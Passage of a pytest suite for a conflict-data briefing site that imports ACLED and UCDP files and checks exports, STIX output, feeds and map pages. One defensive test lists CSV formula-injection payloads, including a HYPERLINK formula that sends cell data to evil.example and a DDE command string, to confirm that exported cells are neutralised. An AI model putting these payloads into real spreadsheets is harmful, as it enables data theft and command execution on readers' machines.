"""What ACLED and UCDP say survives a round trip through a built site, tried against the codebooks.

The files are generated (tests/codebook_files.py) to use every code and quirk the codebooks allow.
ACLED: import -> ``mkdocs build --strict`` -> import the site's ``data/incidents-acled.csv`` ->
export again: every one of the 31 columns is equal to the original file's, except the ones
docs/importing.md lists with the reason (coordinates are compared as numbers). UCDP: import ->
build -> import the site's ``data/data.json`` -> every one of GED's 49 columns is read back from
the records and compared with the original row. Then what the values mean: actor kinds, sides,
unidentified actors, placeholder fatalities, origins, deaths by side.
"""

from __future__ import annotations

import datetime as dt
import json
import os
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import stix2
from codebook_files import COLUMNS_31, COLUMNS_49, acled_rows, ged_rows, read_csv, write_csv
from stix2.confidence.scales import admiralty_credibility_to_value
from stix2validator import ValidationOptions, validate_string

from conftest import (
    ARTIFACTS,
    BASE_FIXTURE,
    REPO,
    copy_project,
    exports,
    grade_sources,
    mkdocs_build,
    records,
    run_cli,
    serve_folder,
)
from generator.exports.common import derived_uuid
from generator.formats import spreadsheet
from generator.importers import ImportFailed, import_file
from generator.index.graph import build_index
from generator.load.dataset import Dataset, load_dataset
from generator.model.records import Incident
from generator.model.spelling import fold
from generator.pipeline import generate
from generator.render.search import place_document
from generator.settings import make_settings, read_mkdocs_yml

NUMERIC_COLUMNS = ("latitude", "longitude")
"""Compared as numbers: ``36.6000`` is written back as ``36.6``."""


def _project(root: Path) -> Path:
    (root / "docs" / "briefings").mkdir(parents=True)
    shutil.copy2(BASE_FIXTURE / "mkdocs.yml", root / "mkdocs.yml")
    (root / "docs" / "briefings" / "notes.md").write_text("# Field notes\n\nImported data.\n", encoding="utf-8")
    return root


def _built(project: Path, dataset: str, file: Path) -> Path:
    """Import ``file`` with the command line and build the site strictly; the site folder."""
    imported = run_cli(project, "import", dataset, str(file))
    assert imported.returncode == 0, imported.stderr
    grade_sources(project)  # imported sources start ungraded, which a strict build does not accept
    build = mkdocs_build(project)
    assert build.returncode == 0, build.stderr
    return project / "site"


def _same_cell(column: str, before: str, after: str) -> bool:
    after = spreadsheet.unescape(after)  # as every importer reads a cell (a formula-like text is quoted)
    if column in NUMERIC_COLUMNS and before and after:
        return float(before) == float(after)
    return before == after


# --- ACLED: every column, both variants ---------------------------------------------------------------


@pytest.mark.parametrize("variant", ["numeric", "labels"])
def test_every_acled_column_comes_back_from_a_built_sites_export(tmp_path: Path, variant: str) -> None:
    rows = acled_rows(variant)
    original = write_csv(tmp_path / f"acled-{variant}.csv", rows, COLUMNS_31)
    site = _built(_project(tmp_path / "first"), "acled", original)
    exported = site / "data" / "incidents-acled.csv"

    second = _project(tmp_path / "second")
    again = run_cli(second, "import", "acled", str(exported))
    assert again.returncode == 0, again.stderr
    assert f"{len(rows)} imported, 0 rejected" in again.stderr
    back = {row["event_id_cnty"]: row for row in read_csv(exported)}
    assert list(read_csv(exported)[0]) == list(COLUMNS_31)
    for row in rows:
        out = back[row["event_id_cnty"]]
        differing = [c for c in COLUMNS_31 if not _same_cell(c, row[c], out[c])]
        assert differing == [], (row["event_id_cnty"], {c: (row[c], out[c]) for c in differing})

    # and the second project's own export is the same file: nothing drifts on a second trip
    assert exports(second)["data/incidents-acled.csv"] == exported.read_bytes()


def _acled(tmp_path: Path, variant: str = "labels") -> tuple[Dataset, list[dict[str, str]]]:
    rows = acled_rows(variant)
    project = tmp_path / "project"
    report = import_file("acled", write_csv(tmp_path / "acled.csv", rows, COLUMNS_31), project / "seeds", project)
    assert not report.rejected
    return records(project), rows


def test_acled_meanings_survive_the_import(tmp_path: Path) -> None:
    data, rows = _acled(tmp_path)

    def incident(number: int) -> Incident:
        return data.incidents[f"acled-syr{number:04d}"].record

    def parts(number: int) -> list[tuple[str | None, str | None]]:
        return [(p.actor, p.side) for p in incident(number).participants]

    # first seen as an associate without a code, then coded twice as a political militia
    assert data.actors["ndf-national-defence-forces"].record.kind == "militia"
    assert parts(1) == [
        ("military-forces-of-syria-2000", "a"),
        ("ndf-national-defence-forces", "a"),
        ("hayat-tahrir-al-sham", "b"),
        ("nlf-national-liberation-front", "b"),
    ]
    # one actor alone has no side; the same actor on both sides; two unidentified sides
    assert parts(4) == [("military-forces-of-syria-2000", None)]
    same = next(r for r in rows if r["actor1"] == r["actor2"] == "Hayat Tahrir al-Sham")
    assert parts(int(same["event_id_cnty"][3:])) == [("hayat-tahrir-al-sham", "a"), ("hayat-tahrir-al-sham", "b")]
    unidentified = next(r for r in rows if r["actor1"] == r["actor2"] == "Unidentified Armed Group (Syria)")
    both = incident(int(unidentified["event_id_cnty"][3:])).participants
    assert [(p.actor, p.side, p.note) for p in both] == [
        (None, "a", "Unidentified Armed Group (Syria)"),
        (None, "b", "Unidentified Armed Group (Syria)"),
    ]
    specific = next(r for r in rows if r["actor1"].startswith("Unidentified Tribal"))
    assert incident(int(specific["event_id_cnty"][3:])).participants[0].note == specific["actor1"]
    # placeholder fatalities say so; an ordinary number has no note
    placeholders = {r["fatalities"]: r for r in rows if r["fatalities"] in ("10", "12", "100")}
    notes = {n: incident(int(r["event_id_cnty"][3:])).fatalities for n, r in placeholders.items()}
    assert {n: f.note if f else None for n, f in notes.items()} == {
        "10": "ACLED codes 'several' as 10: the reports give no number",
        "12": "ACLED codes 'dozens' as 12: the reports give no number",
        "100": "ACLED codes 'hundreds' as 100: the reports give no number",
    }
    # geo_precision 3: the event is somewhere in the region, not in the town whose coordinates ACLED used
    region = next(r for r in rows if r["geo_precision"] == "3")
    event = incident(int(region["event_id_cnty"][3:]))
    assert event.location_precision == "region" and data.places[event.place].record.kind == "district"
    assert event.dataset and event.dataset.acled and event.dataset.acled.location == region["location"]
    # several sources, their scale and the tags are kept
    scaled = next(r for r in rows if "-" in r["source_scale"])
    event = incident(int(scaled["event_id_cnty"][3:]))
    assert [data.sources[c.source].record.name for c in event.citations[:-1]] == scaled["source"].split("; ")
    assert event.dataset and event.dataset.acled
    assert (event.dataset.acled.source_scale, event.dataset.acled.tags) == (
        scaled["source_scale"],
        scaled["tags"].split("; "),
    )


def test_a_changed_acled_timestamp_updates_the_record_and_its_export(tmp_path: Path) -> None:
    rows = acled_rows("labels")
    project = tmp_path / "project"
    import_file("acled", write_csv(tmp_path / "v1.csv", rows, COLUMNS_31), project / "seeds", project)
    rows[4]["timestamp"] = str(int(rows[4]["timestamp"]) + 3600)
    rows[4]["fatalities"] = "3"
    report = import_file("acled", write_csv(tmp_path / "v2.csv", rows, COLUMNS_31), project / "seeds", project)
    assert report.updated == [f"seeds/incidents/acled-{rows[4]['event_id_cnty'].lower()}.yaml"]
    exported = {r["event_id_cnty"]: r for r in read_csv_bytes(exports(project)["data/incidents-acled.csv"])}
    assert exported[rows[4]["event_id_cnty"]]["timestamp"] == rows[4]["timestamp"]
    assert exported[rows[4]["event_id_cnty"]]["fatalities"] == "3"
    assert exported[rows[3]["event_id_cnty"]]["timestamp"] == rows[3]["timestamp"]


def read_csv_bytes(data: bytes) -> list[dict[str, str]]:
    """Rows of CSV bytes by column name."""
    import csv
    import io

    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


# --- UCDP: every GED column, through data.json -------------------------------------------------------


def ged_values(data: Dataset, incident: Incident) -> dict[str, str]:
    """GED's 49 columns as the records hold them: where each column lives (docs/importing.md)."""
    block = incident.dataset.ucdp if incident.dataset is not None else None
    assert block is not None
    chain = []
    place: str | None = incident.place
    while place is not None:
        chain.append(data.places[place].record)
        place = data.places[place].record.parent
    by_kind = {p.kind: p.name for p in chain}
    sides = {p.side: data.actors[p.actor].record.name for p in incident.participants if p.actor}
    articles = [c for c in incident.citations if c.source != "ucdp-ged"]
    offices = [data.sources[c.source].record.name for c in articles]
    dates = [c.published.iso if c.published else "" for c in articles]
    fatalities = incident.fatalities
    assert fatalities is not None and fatalities.by_side is not None
    low = block.low if block.low is not None else fatalities.low
    high = block.high if block.high is not None else fatalities.high
    coordinates = incident.coordinates
    assert coordinates is not None
    values: dict[str, Any] = {
        "id": incident.external_ids["ucdp-ged"],
        "relid": incident.external_ids.get("ucdp-ged-relid", ""),
        "year": incident.date.start.year,
        "side_a": sides.get("a", ""),
        "side_b": sides.get("b", ""),
        "source_article": ";".join(f'"{o},{d},{c.title}"' for o, d, c in zip(offices, dates, articles, strict=True)),
        "source_office": ";".join(offices),
        "source_date": ";".join(dates),
        "source_headline": ";".join(c.title for c in articles),
        "where_coordinates": data.places[incident.place].record.name,
        "adm_1": by_kind.get("governorate", ""),
        "adm_2": by_kind.get("district", ""),
        "latitude": coordinates.lat,
        "longitude": coordinates.lon,
        "geom_wkt": f"POINT ({coordinates.lon} {coordinates.lat})",
        "country": by_kind.get("country", ""),
        "date_start": incident.date.start.isoformat(),
        "date_end": incident.date.end.isoformat(),
        "deaths_a": fatalities.by_side.a,
        "deaths_b": fatalities.by_side.b,
        "deaths_civilians": fatalities.by_side.civilians,
        "deaths_unknown": fatalities.by_side.unknown,
        "best": fatalities.best,
        "low": low,
        "high": high,
    }
    for column in COLUMNS_49:
        if column not in values:
            values[column] = getattr(block, column)
    return {k: "" if v is None else str(v) for k, v in values.items()}


def test_every_ged_column_comes_back_from_a_built_sites_data_json(tmp_path: Path) -> None:
    rows = ged_rows()
    original = write_csv(tmp_path / "ged.csv", rows, COLUMNS_49)
    site = _built(_project(tmp_path / "first"), "ucdp", original)
    second = _project(tmp_path / "second")
    again = run_cli(second, "import", "briefing", str(site / "data" / "data.json"))
    assert again.returncode == 0, again.stderr
    data = records(second)
    for row in rows:
        incident = data.incidents[f"ucdp-{row['id']}"].record
        values = ged_values(data, incident)
        differing = [c for c in COLUMNS_49 if not _same_ged(c, row[c], values[c])]
        assert differing == [], (row["id"], {c: (row[c], values[c]) for c in differing})


def _same_ged(column: str, before: str, after: str) -> bool:
    if column in (*NUMERIC_COLUMNS, "geom_wkt"):
        return before.replace("POINT (", "").split() == after.replace("POINT (", "").split() or [
            float(x.strip("()")) for x in before.replace("POINT (", "").split()
        ] == [float(x.strip("()")) for x in after.replace("POINT (", "").split()]
    return before == after


def test_ged_meanings_survive_the_import(tmp_path: Path) -> None:
    rows = ged_rows()
    project = tmp_path / "project"
    report = import_file("ucdp", write_csv(tmp_path / "ged.csv", rows, COLUMNS_49), project / "seeds", project)
    data = records(project)
    by_id = {row["id"]: row for row in rows}
    warnings = [d.message for d in report.warnings]
    # bounds on the wrong side of best and deaths by side that do not add up are reported
    assert any("'low'" in w and "above 'best'" in w for w in warnings)
    assert any("'high'" in w and "below 'best'" in w for w in warnings)
    assert any("deaths by side add up to" in w for w in warnings)
    for ged_id, row in by_id.items():
        incident = data.incidents[f"ucdp-{ged_id}"].record
        precision = {"1": "exact", "2": "near"}.get(row["where_prec"], "region")
        assert incident.location_precision == precision
        # the title says who, where and UCDP's best estimate, never a headline
        assert incident.title.endswith(f": {row['best']} killed" if row["best"] != "0" else ": no one killed")
        assert row["side_a"] in incident.title and all(c.title not in incident.title for c in incident.citations)
        # an outlet that is not itself the original relays it; UCDP relays every original
        originals = sorted(data.sources[s].record.name for s in incident.citations[-1].origin)
        assert originals == sorted(n.strip() for n in row["source_original"].split(","))
        bbc = next(c for c in incident.citations if data.sources[c.source].record.name == "BBC Monitoring")
        assert sorted(data.sources[s].record.name for s in bbc.origin) == originals
        sohr = next(c for c in incident.citations if data.sources[c.source].record.name == "SOHR")
        assert sohr.origin == []  # an original itself: it relays no one


def test_a_dataset_relays_its_outlets_and_is_never_an_independent_origin_of_its_own(tmp_path: Path) -> None:
    """ACLED and UCDP code what outlets reported: an event one outlet reported is single-sourced."""
    acled = acled_rows("labels")[:3]
    acled[0]["source"] = "Syria Direct"
    acled[1]["source"] = "SOHR; Syria Direct; SOHR"
    acled[2]["source"] = ""
    ged = ged_rows()[:3]
    ged[0]["source_original"] = ""  # UCDP names no original: it relays the outlets it read
    ged[0]["source_article"] = '"AFP,2019-01-06,Clashes"'
    ged[1]["source_original"] = ""
    ged[2]["source_original"] = "SANA; local activists"
    project = tmp_path / "project"
    for name, rows, columns in (("acled", acled, COLUMNS_31), ("ucdp", ged, COLUMNS_49)):
        report = import_file(name, write_csv(tmp_path / f"{name}.csv", rows, columns), project / "seeds", project)
        assert not report.rejected
    nodes = {n.id: n for n in build_index(records(project)).incidents}

    def origins(incident: str) -> list[str]:
        return [o.record.name for o in nodes[incident].origins]

    assert origins("acled-syr0001") == ["Syria Direct"] and nodes["acled-syr0001"].single_source
    assert origins("acled-syr0002") == ["SOHR", "Syria Direct"]
    assert origins("acled-syr0003") == ["Armed Conflict Location & Event Data (ACLED)"]  # no outlet named
    assert origins(f"ucdp-{ged[0]['id']}") == ["AFP"] and nodes[f"ucdp-{ged[0]['id']}"].single_source
    assert origins(f"ucdp-{ged[1]['id']}") == ["SOHR", "BBC Monitoring"]
    assert sorted(origins(f"ucdp-{ged[2]['id']}")) == ["SANA", "local activists"]


def test_rows_an_acled_export_made_from_other_records_are_refused_not_passed_off_as_acled(tmp_path: Path) -> None:
    """A mixed site's ACLED-layout export holds hand-made and UCDP records under their own ids:
    importing it as ACLED would invent ACLED events, so those rows are refused with the way out."""
    mixed = copy_project(REPO, tmp_path / "mixed")  # the example's hand-made records
    rows = acled_rows("labels")[:2]
    assert not import_file(
        "acled", write_csv(tmp_path / "acled.csv", rows, COLUMNS_31), mixed / "seeds", mixed
    ).rejected
    exported = tmp_path / "incidents-acled.csv"
    exported.write_bytes(exports(mixed)["data/incidents-acled.csv"])
    hand_made = sorted(p.stem for p in (REPO / "seeds" / "incidents").glob("*.yaml"))
    by_id = {row["event_id_cnty"]: row for row in read_csv(exported)}
    assert sorted(by_id) == sorted([*hand_made, "SYR0001", "SYR0002"])

    second = tmp_path / "second"
    report = import_file("acled", exported, second / "seeds", second)

    assert sorted(records(second).incidents) == ["acled-syr0001", "acled-syr0002"]
    refused = {d.message.split("'")[3]: d for d in report.rejected}
    assert sorted(refused) == hand_made
    problem = refused["derik-standoff-2020-06-04"]
    assert problem.message.endswith(
        "rejected: 'event_id_cnty' 'derik-standoff-2020-06-04' is a briefing site's record id, not an event ACLED"
        " coded (ACLED's ids are a country's letters and a number, e.g. SYR1234)"
    )
    assert problem.hint == (
        "this row was exported by a briefing site from a record that did not come from ACLED; to move"
        " records between sites, import the site's data/data.json: briefing import briefing data.json"
    )


def test_sides_sourcing_and_dataset_values_are_in_the_csv_and_geojson_exports(tmp_path: Path) -> None:
    """What a reader judges a line by leaves the site in the spreadsheet and GIS files too."""
    rows = ged_rows()[:2]
    project = tmp_path / "project"
    assert not import_file(
        "ucdp", write_csv(tmp_path / "ged.csv", rows, COLUMNS_49), project / "seeds", project
    ).rejected
    data = records(project)
    files = exports(project)
    table = {row["id"]: row for row in read_csv_bytes(files["data/incidents.csv"])}
    features = {f["id"]: f["properties"] for f in json.loads(files["data/incidents.geojson"])["features"]}
    for row in rows:
        incident = data.incidents[f"ucdp-{row['id']}"].record
        assert incident.fatalities is not None and incident.fatalities.by_side is not None
        deaths = (row["deaths_a"], row["deaths_b"], row["deaths_civilians"], row["deaths_unknown"])
        line = table[incident.id]
        assert line["participant_sides"] == "a; b"
        assert line["fatalities_by_side"] == "a:{}; b:{}; civilians:{}; unknown:{}".format(*deaths)
        assert line["citation_origins"] == "; ".join("+".join(c.origin) for c in incident.citations)
        assert json.loads(line["dataset"])["ucdp"]["source_original"] == row["source_original"]
        assert json.loads(line["dataset"])["ucdp"]["conflict_name"] == row["conflict_name"]
        feature = features.get(incident.id)
        if feature is None:  # no point anywhere on its chain: listed in the metadata instead
            continue
        assert [p["side"] for p in feature["participants"]] == ["a", "b"]
        assert feature["fatalities_by_side"] == dict(
            zip(("a", "b", "civilians", "unknown"), map(int, deaths), strict=True)
        )
        assert [c["origin"] for c in feature["citations"]] == [list(c.origin) for c in incident.citations]
        assert feature["dataset"]["ucdp"]["dyad_name"] == row["dyad_name"]
    assert len(features) >= 1


# --- CSV files a spreadsheet opens safely -------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


def test_formula_like_text_is_inert_in_every_csv_cell_and_imports_back_as_written(project: Path) -> None:
    source = project / "seeds" / "incidents" / "derik-standoff.yaml"
    for number, text in enumerate(FORMULAS):
        record = {
            "id": f"hostile-{number}",
            "title": text,
            "date": "2020-06-05",
            "event_type": "battles",
            "place": "derik",
            "participants": [{"actor": "russia", "role": "combatant", "side": "a", "note": text}],
            "summary": text.strip() or "x",
            "fatalities": {"best": 2, "note": text},
            "citations": [{"source": "voa", "title": text, "quote": text}],
            "external_ids": {"acled": f"HOS{number}"},  # ACLED's events: they come back as ACLED's
        }
        (source.parent / f"hostile-{number}.yaml").write_text(
            __import__("json").dumps(record, ensure_ascii=False) + "\n", encoding="utf-8"
        )
    files = exports(project)
    for uri in ("data/incidents.csv", "data/incidents-acled.csv"):
        rows = read_csv_bytes(files[uri])
        cells = [cell for row in rows for cell in row.values()]
        risky = [c for c in cells if c.startswith(spreadsheet.TRIGGERS) and not _is_number(c)]
        assert risky == [], (uri, risky)
        titles = {row["id"]: row["title"] for row in rows} if uri == "data/incidents.csv" else {}
        for number, text in enumerate(FORMULAS):
            if titles:
                assert spreadsheet.unescape(titles[f"hostile-{number}"]) == text
                assert titles[f"hostile-{number}"] == ("'" + text if text.lstrip("'")[0] in "=+-@\t\r" else text)

    # the ACLED importer reads the notes back exactly as they were written
    exported = project / "acled.csv"
    exported.write_bytes(files["data/incidents-acled.csv"])
    other = project.parent / "other"
    report = import_file("acled", exported, other / "seeds", other)
    hand_made = sorted(p.stem for p in source.parent.glob("*.yaml") if not p.stem.startswith("hostile-"))
    assert sorted(d.message.split("'")[3] for d in report.rejected) == hand_made  # never ACLED's
    summaries = {
        entry.record.external_ids["acled"]: entry.record.summary for entry in records(other).incidents.values()
    }
    for number, text in enumerate(FORMULAS):
        assert summaries[f"HOS{number}"] == " ".join(text.split())


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# --- versions: STIX modified and Atom updated follow the records' own changes ---------------------


def _git(project: Path, *args: str, when: str) -> None:
    env = {
        **os.environ,
        "GIT_AUTHOR_DATE": when,
        "GIT_COMMITTER_DATE": when,
        "GIT_AUTHOR_NAME": "Analyst",
        "GIT_AUTHOR_EMAIL": "analyst@example.org",
        "GIT_COMMITTER_NAME": "Analyst",
        "GIT_COMMITTER_EMAIL": "analyst@example.org",
    }
    done = subprocess.run(["git", *args], cwd=project, env=env, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr


def _stix_and_atom(site: Path) -> tuple[dict[str, str], dict[str, str], str]:
    """STIX objects by id (as their exact JSON text), Atom entries by id (as their exact XML), feed updated."""
    bundle = json.loads((site / "data" / "stix-bundle.json").read_text(encoding="utf-8"))
    objects = {o["id"]: json.dumps(o, sort_keys=True, ensure_ascii=False) for o in bundle["objects"]}
    feed = (site / "data" / "feed.xml").read_text(encoding="utf-8")
    entries = {
        re.search(r"<id>(.*?)</id>", chunk)[1]: chunk  # type: ignore[index]
        for chunk in re.findall(r"<entry>.*?</entry>", feed, re.DOTALL)
    }
    updated = re.search(r"<updated>(.*?)</updated>", feed)[1]  # type: ignore[index]
    return objects, entries, updated


def test_editing_one_incident_changes_only_its_stix_object_and_atom_entry(tmp_path: Path) -> None:
    project = copy_project(REPO, tmp_path / "project")
    _git(project, "init", "-q", when="2026-01-01T00:00:00Z")
    _git(project, "add", "-A", when="2026-01-01T00:00:00Z")
    _git(project, "commit", "-qm", "The example data", when="2026-01-01T10:00:00Z")
    assert mkdocs_build(project).returncode == 0
    objects, entries, _ = _stix_and_atom(project / "site")

    record = project / "seeds" / "incidents" / "derik-standoff-2020-06-04.yaml"
    record.write_text(
        record.read_text(encoding="utf-8")
        .replace("tags:", "summary_note_free: x\ntags:", 0)
        .replace(
            "title: US and Russian soldiers square off near Derik", "title: US and Russian troops face off near Derik"
        ),
        encoding="utf-8",
    )
    _git(project, "commit", "-qam", "Retitle the standoff", when="2026-02-03T04:05:06Z")
    built = mkdocs_build(project)
    assert built.returncode == 0, built.stderr
    after, after_entries, feed_updated = _stix_and_atom(project / "site")

    plugin, site = read_mkdocs_yml(project / "mkdocs.yml")
    namespace = make_settings(project, plugin, site).namespace
    assert namespace  # the example's site_url or site_name
    edited = "incident--" + str(derived_uuid("incident/derik-standoff-2020-06-04", namespace))
    assert set(after) == set(objects)
    changed = sorted(i for i in objects if objects[i] != after[i])
    assert changed == [edited]
    assert json.loads(objects[edited])["modified"] == "2026-01-01T10:00:00.000Z"
    assert json.loads(after[edited])["modified"] == "2026-02-03T04:05:06.000Z"
    assert json.loads(after[edited])["created"] == "2026-01-01T10:00:00.000Z"

    entry = "urn:uuid:" + str(derived_uuid("incident/derik-standoff-2020-06-04", namespace))
    assert sorted(i for i in entries if entries[i] != after_entries[i]) == [entry]
    assert "<updated>2026-01-01T10:00:00Z</updated>" in entries[entry]
    assert "<updated>2026-02-03T04:05:06Z</updated>" in after_entries[entry]
    assert feed_updated == "2026-02-03T04:05:06Z"


def test_without_git_the_import_state_dates_imported_records_and_the_build_says_what_it_left_out(
    tmp_path: Path,
) -> None:
    project = _project(tmp_path / "project")
    when = dt.datetime(2026, 3, 4, 5, 6, 7, tzinfo=dt.UTC)
    import_file(
        "acled",
        write_csv(tmp_path / "a.csv", acled_rows("labels")[:3], COLUMNS_31),
        project / "seeds",
        project,
        now=when,
    )
    (project / "seeds" / "places" / "by-hand.yaml").write_text(
        "id: by-hand\nname: By hand\nkind: town\n", encoding="utf-8"
    )
    result = generate(make_settings(project))
    assert result.ok
    bundle = json.loads(next(a.data for a in result.assets if a.uri == "data/stix-bundle.json"))
    incidents = [o for o in bundle["objects"] if o["type"] == "incident"]
    assert {o["modified"] for o in incidents} == {"2026-03-04T05:06:07.000Z"}
    by_hand = next(o for o in bundle["objects"] if o.get("x_briefing_id") == "by-hand")
    assert by_hand["modified"] == "1970-01-01T00:00:00.000Z"
    assert result.notes == [
        'no record history and no "What\'s new" page: the data folder is not in a git repository',
        "1 record has no last-change date (the data folder is not in a git repository, and no import "
        "recorded one): STIX 'modified' falls back to 1970-01-01, Atom 'updated' to the incident's first "
        "day, and the ACLED layout's 'timestamp' is left empty",
    ]


# --- STIX: valid, with ISO countries, its own ids, Admiralty confidence and markings ------------------


def test_the_stix_bundle_validates_without_country_warnings_and_ids_are_each_sites_own(tmp_path: Path) -> None:
    project = copy_project(REPO, tmp_path / "project")
    first = generate(make_settings(project, site={"site_url": "https://one.example/briefing/"}))
    second = generate(make_settings(project, site={"site_url": "https://two.example/"}))
    bundles = [
        next(a.data for a in result.assets if a.uri == "data/stix-bundle.json").decode("utf-8")
        for result in (first, second)
    ]
    results = validate_string(bundles[0], ValidationOptions(disabled=["103"]))
    assert results.is_valid
    assert [str(w) for w in results.warnings if "country" in str(w).lower()] == []
    countries = {o.get("country") for o in json.loads(bundles[0])["objects"] if o["type"] == "location"}
    assert countries - {None} == {"SY"}
    ids = [{o["id"] for o in json.loads(b)["objects"] if o["type"] != "marking-definition"} for b in bundles]
    shared = ids[0] & ids[1]
    # only the program's own identity and extension definition are the same in both sites' bundles
    assert {i.split("--")[0] for i in shared} == {"identity", "extension-definition"} and len(shared) == 2


def test_stix_confidence_is_stix_21s_admiralty_mapping_and_markings_are_optional(tmp_path: Path) -> None:
    project = copy_project(REPO, tmp_path / "project")
    plain = next(a.data for a in generate(make_settings(project)).assets if a.uri == "data/stix-bundle.json")
    marked_result = generate(
        make_settings(project, plugin={"tlp": "amber", "licence": "CC BY 4.0, credit the analysts"})
    )
    marked = next(a.data for a in marked_result.assets if a.uri == "data/stix-bundle.json")
    data = load_dataset(project / "seeds", project)
    words = {
        1: "1 - Confirmed by other sources",
        2: "2 - Probably True",
        3: "3 - Possibly True",
        4: "4 - Doubtful",
        5: "5 - Improbable",
    }
    for obj in json.loads(plain)["objects"]:
        if obj["type"] != "incident":
            continue
        record = data.incidents[obj["x_briefing_id"]].record
        grades = [c.credibility for c in record.citations if c.credibility and c.credibility < 6]
        expected = max(admiralty_credibility_to_value(words[g]) for g in grades) if grades else None
        assert obj.get("confidence") == expected, obj["x_briefing_id"]
        assert "object_marking_refs" not in obj
    objects = json.loads(marked)["objects"]
    definitions = {o["id"]: o for o in objects if o["type"] == "marking-definition"}
    tlp = "marking-definition--f88d31f6-486f-44da-b317-01333bde0b82"
    assert definitions[tlp]["definition"] == {"tlp": "amber"}
    [licence] = [d for d in definitions.values() if d["definition_type"] == "statement"]
    assert licence["definition"] == {"statement": "CC BY 4.0, credit the analysts"}
    assert all(
        set(o["object_marking_refs"]) == {tlp, licence["id"]} for o in objects if o["type"] != "marking-definition"
    )
    stix2.parse(marked.decode("utf-8"), allow_custom=False)
    assert validate_string(marked.decode("utf-8"), ValidationOptions(disabled=["103"])).is_valid


# --- what a reader sees: a UCDP incident's page -----------------------------------------------------


@pytest.fixture(scope="module")
def ucdp_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The shared UCDP sample imported into an empty project and built strictly."""
    project = _project(tmp_path_factory.mktemp("ucdp") / "project")
    return _built(project, "ucdp", REPO / "tests" / "fixtures" / "imports" / "ucdp-ged-syria-sample.csv")


def test_a_ucdp_incident_page_shows_its_own_title_origins_deaths_by_side_and_a_25_km_circle(
    ucdp_site: Path, browser: Any
) -> None:
    with serve_folder(ucdp_site) as url:
        for width in (1280, 390):
            page = browser.new_page(viewport={"width": width, "height": 1400})
            try:
                page.goto(url + "incidents/ucdp-317791/")
                page.wait_for_selector(".briefing-map[data-ready='true'][data-world-ready='true']", timeout=15000)
                assert (
                    page.locator("h1").inner_text()
                    == "Government of Syria vs Syrian insurgents near Qah town: 19 killed"
                )
                text = " ".join(page.locator("article").inner_text().split())
                assert re.search(r"Agence France Presse [^:]*relaying SOHR\s*,\s*airwars", text, re.IGNORECASE), text
                assert text.count("relaying") == 2  # AFP and UCDP relay; SOHR is itself an original
                assert "by side: Government of Syria 0, Syrian insurgents 0, civilians 17, unknown 2" in text
                assert "Location precision 2: within about 25 km of the place" in text.replace("|", "")
                near = page.locator(".briefing-map__mark--near")
                assert near.count() == 1 and near.get_attribute("data-radius") == "25000"
                assert "about 25 km" in page.locator(".briefing-map__legend").inner_text()
                ARTIFACTS.mkdir(exist_ok=True)
                page.screenshot(path=str(ARTIFACTS / f"ucdp-incident-{width}.png"), full_page=True)
            finally:
                page.close()


def test_country_and_region_level_incidents_are_an_outline_or_listed_never_a_circle(
    tmp_path: Path, browser: Any
) -> None:
    rows = ged_rows()
    site = _built(_project(tmp_path / "project"), "ucdp", write_csv(tmp_path / "ged.csv", rows, COLUMNS_49))
    with serve_folder(site) as url:
        page = browser.new_page(viewport={"width": 1280, "height": 1000})
        try:
            country = next(r for r in rows if r["where_prec"] == "6")
            page.goto(url + f"incidents/ucdp-{country['id']}/")
            page.wait_for_selector(
                ".briefing-map[data-world-ready='true'] path.briefing-map__mark--area", timeout=15000
            )
            assert page.locator("path.briefing-map__mark--area").get_attribute("data-area") == "760"
            assert page.locator(".briefing-map__mark--near, .briefing-map__mark--exact").count() == 0
            assert "(35.000° N" not in page.locator("article").inner_text()  # no point printed as a location
            page.screenshot(path=str(ARTIFACTS / "ucdp-country-level.png"), full_page=True)

            district = next(r for r in rows if r["where_prec"] == "3")
            page.goto(url + f"incidents/ucdp-{district['id']}/")
            page.wait_for_selector(".briefing-map[data-ready='true']", timeout=15000)
            assert page.locator(".briefing-map__mark").count() == 0
            listed = page.locator(".briefing-map__listed").inner_text()
            assert "known only to a region or district" in listed and "not drawn" in listed
            items = page.locator(".briefing-map__list li").all_text_contents()
            assert any("not drawn: only the district (second-order administrative unit) is known" in i for i in items)
        finally:
            page.close()


# --- one place per town across datasets and spellings ------------------------------------------------

# ACLED's spellings of UCDP's governorates and towns, with ACLED-style coordinates
_ACLED_SPELLINGS = [
    # admin1, admin2, location, latitude, longitude, UCDP's name of the town
    ("Al Hasakeh", "Ras Al Ain", "Ras Al Ain", "36.8503", "40.0706", "Ras al Ayn town"),
    ("Al Hasakeh", "Al Hasakeh", "Tell Tamer", "36.6556", "40.3708", "Tall Tamr town"),
    ("Al Hasakeh", "Al Qamishli", "Qamishli", "37.0522", "41.2314", "Al Qamishli town"),
    ("Al Hasakeh", "Ras Al Ain", "Darbasiyah", "37.0728", "40.6520", "Ad Darbasiyah town"),
    ("Idleb", "Maarrat An Nu'man", "Maarrat An Nu'man", "35.6484", "36.6760", "Maarat al-Numaan town"),
    ("Idleb", "Maarrat An Nu'man", "Kafr Nobol", "35.6140", "36.5607", "Kafr Nabl town"),
    ("Idleb", "Maarrat An Nu'man", "Khan Sheikhoun", "35.4421", "36.6510", "Khan Shaykhun town"),
    ("Idleb", "Idleb", "Idleb", "35.9306", "36.6339", "Idlib town"),
]
_UNCERTAIN = ("Idleb", "Maarrat An Nu'man", "Kafr Rouma", "35.6990", "36.6300", "Kafr Ruma town")  # 6.9 km off


def _acled_spellings(tmp_path: Path) -> Path:
    rows = []
    for number, (admin1, admin2, location, lat, lon, _) in enumerate([*_ACLED_SPELLINGS, _UNCERTAIN], 1):
        rows.append(
            {
                "event_id_cnty": f"SYR{number:03d}",
                "event_date": "2019-10-15",
                "time_precision": "1",
                "event_type": "Explosions/Remote violence",
                "sub_event_type": "Shelling/artillery/missile attack",
                "actor1": "Military Forces of Syria (2000-)",
                "inter1": "State forces",
                "actor2": "Civilians (Syria)",
                "inter2": "Civilians",
                "country": "Syria",
                "admin1": admin1,
                "admin2": admin2,
                "location": location,
                "latitude": lat,
                "longitude": lon,
                "geo_precision": "1",
